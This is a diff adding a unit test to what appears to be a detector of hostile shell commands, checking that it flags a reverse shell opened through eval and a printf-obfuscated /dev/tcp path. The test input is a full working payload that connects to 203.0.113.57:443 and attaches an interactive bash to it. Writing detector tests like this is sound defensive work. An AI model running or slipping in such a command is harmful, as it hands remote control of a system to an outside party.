@@ -226,5 +226,18 @@ sys.exit(main())
   check({"the copies never see the marker", B, unmarked.c_str(), "FORK-BOMB"});
 }
 
+// A descriptor opened on a connection inside an eval (`eval "exec 7<>..."`)
+// stays open in the shell that ran the eval: an interactive shell attached
+// to it later is a reverse shell. Attached to a log file instead, it is not.
+TEST(TwoHundredAndFifteenthRoundClasses, DescriptorsOpenedInAnEvalStayOpen) {
+  check_with_twin({"a connection opened by eval on descriptor 7, bash -i attached to it", B, R"sh(
+FD=7
+p="$(printf '/%s/%s/%s/%s' dev tcp 203.0.113.57 443)"
+eval "exec ${FD}<>\"${p}\""
+bash -i <&"$FD" >&"$FD" 2>&"$FD"
+)sh", "REVERSE-SHELL", SH},
+                  "eval \"exec ${FD}<>\\\"${p}\\\"\"", "eval \"exec ${FD}<>./console.log\"", "a log file on 7", L);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
